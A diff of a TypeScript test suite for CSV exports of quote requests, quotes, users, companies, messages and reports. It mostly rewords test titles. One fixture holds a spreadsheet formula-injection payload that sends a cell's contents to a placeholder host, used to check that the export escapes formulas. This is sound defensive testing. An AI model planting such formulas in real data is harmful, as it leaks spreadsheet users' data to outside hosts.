@@ -32,7 +32,7 @@ async function download(browser: TestBrowser, path: string) {
 }
 
 describe('an export', () => {
-  it('is UTF-8 that spreadsheets know as such, named with the company’s date, and never cached', async () => {
+  it('is UTF-8 with a byte order mark, named with the date in company time, and never cached', async () => {
     const { response, bytes } = await download(admin, 'quote-requests.csv');
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -44,7 +44,7 @@ describe('an export', () => {
     expect(bytes.subarray(-2).toString()).toBe('\r\n');
   });
 
-  it('answers errors as JSON', async () => {
+  it('returns errors as JSON', async () => {
     const visitor = await testApp.browser().rest('GET', '/api/exports/quote-requests.csv');
     expect(visitor).toMatchObject({
       status: 401,
@@ -79,7 +79,7 @@ describe('an export', () => {
 });
 
 describe('quote requests', () => {
-  it('contain what people typed, with formulas escaped: quotes, line breaks, any script', async () => {
+  it('contain what people typed, with formulas escaped: quotes, line breaks, all scripts', async () => {
     const notes = '=HYPERLINK("https://x.example/?"&A1,"Free")\nsecond, line';
     await insertTestRequest(testApp.deps, {
       reference_number: 'QR-CSVTEST1',
@@ -105,7 +105,7 @@ describe('quote requests', () => {
     });
   });
 
-  it('follow search, status and order of the list, over all its pages', async () => {
+  it('follow the search, filter and order of the list, across all pages', async () => {
     for (let index = 0; index < 405; index += 1) {
       await insertTestRequest(testApp.deps, {
         first_name: 'Paged',
@@ -126,7 +126,7 @@ describe('quote requests', () => {
     expect((await download(admin, 'quote-requests.csv?search=nobody-has-this')).rows).toEqual([]);
   });
 
-  it('of a company are its own; of a person the own ones, in the reader’s language', async () => {
+  it("contain only the caller's own for a company and a home owner, in the requested language", async () => {
     const [mine, other] = [
       await insertTestCompany(testApp.deps),
       await insertTestCompany(testApp.deps),
@@ -156,7 +156,7 @@ describe('quote requests', () => {
 });
 
 describe('the other tables', () => {
-  it('quotes have plain amounts and the state as it is now', async () => {
+  it('quotes have plain amounts and their current status', async () => {
     const author = await insertTestUser(testApp.deps, {
       role: 'admin',
       first_name: 'Sam',
@@ -191,7 +191,7 @@ describe('the other tables', () => {
     expect((await download(admin, 'quotes.csv?search=csvquot1&status=draft')).rows).toEqual([]);
   });
 
-  it('users come without passwords, deleted ones not at all', async () => {
+  it('users have no passwords, and deleted ones are left out', async () => {
     const company = await insertTestCompany(testApp.deps, { name: 'Gopher Grinding' });
     const user = await insertTestUser(testApp.deps, {
       username: 'csv.owner',
@@ -221,7 +221,7 @@ describe('the other tables', () => {
     ]);
   });
 
-  it('companies say whether they may work', async () => {
+  it('companies have their approval status', async () => {
     await insertTestCompany(testApp.deps, { name: '=Waiting', approved_at: null });
     const { rows } = await download(admin, 'companies.csv?state=waiting&search==wait');
     expect(rows).toHaveLength(1);
@@ -232,7 +232,7 @@ describe('the other tables', () => {
     });
   });
 
-  it('messages hold neither their text nor a link that acts for the customer', async () => {
+  it('messages contain neither their text nor secret links', async () => {
     await insertTestMessage(testApp.deps, {
       to_address: 'csv@example.test',
       channel: 'email',
@@ -258,7 +258,7 @@ describe('the other tables', () => {
 });
 
 describe('the reports', () => {
-  it('are the figures of the page, with their titles', async () => {
+  it('contain the figures on screen, with their titles', async () => {
     const { rows, response } = await download(admin, 'report-by-month.csv?from=2026-10&to=2026-11');
     expect(response.headers.get('content-disposition')).toContain('report-by-month-2026-11-19.csv');
     expect(rows.map((row) => row['Month'])).toEqual(['2026-10', '2026-11']);
@@ -274,7 +274,7 @@ describe('the reports', () => {
     expect(byCompany.rows.some((row) => row['Company'] === "'=Waiting")).toBe(false);
   });
 
-  it('of a company owner are of the own company alone', async () => {
+  it('of a company owner contain only their own company', async () => {
     const company = await insertTestCompany(testApp.deps, { name: 'Own Co' });
     const { browser } = await signedInAs(testApp, {
       role: 'tree_company_owner',
@@ -290,7 +290,7 @@ describe('the reports', () => {
   });
 });
 
-it('an export is refused to an ended session, and aborted if the session ends during it', async () => {
+it('refuses an export to an ended session, and aborts it if the session ends during it', async () => {
   const { browser } = await signedInAs(testApp, { role: 'admin' });
   const ended = new DomainError('UNAUTHENTICATED', serverMessages.signInFirst);
   const endsAfter = (looks: number) => {
@@ -301,7 +301,7 @@ it('an export is refused to an ended session, and aborted if the session ends du
   endsAfter(0);
   expect((await browser.fetch('/api/exports/users.csv')).status).toBe(401);
   endsAfter(2);
-  const begun = await browser.fetch('/api/exports/users.csv');
-  expect(begun.status).toBe(200);
-  await expect(begun.text()).rejects.toThrow('terminated');
+  const response = await browser.fetch('/api/exports/users.csv');
+  expect(response.status).toBe(200);
+  await expect(response.text()).rejects.toThrow('terminated');
 });
